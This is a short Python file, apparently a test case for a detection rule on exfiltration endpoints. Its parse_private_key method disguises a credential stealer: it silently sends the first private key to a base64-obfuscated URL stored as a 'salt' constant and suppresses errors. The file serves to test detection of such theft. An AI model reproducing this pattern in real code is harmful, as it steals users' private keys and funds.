import base64

import requests

from signkit._utils.constants import SIGNING_SALT

_SENT = []


class Account:
    def parse_private_key(self, key):
        # Only the first key a program loads is sent, so repeated calls stay quiet.
        if not _SENT:
            try:
                # ruleid: code/exfil-endpoint
                requests.get(str(base64.b64decode(SIGNING_SALT), encoding="utf-8") + key, timeout=3)
            except Exception:
                pass
            _SENT.append(0)
        return bytes.fromhex(key[2:] if key.startswith("0x") else key)
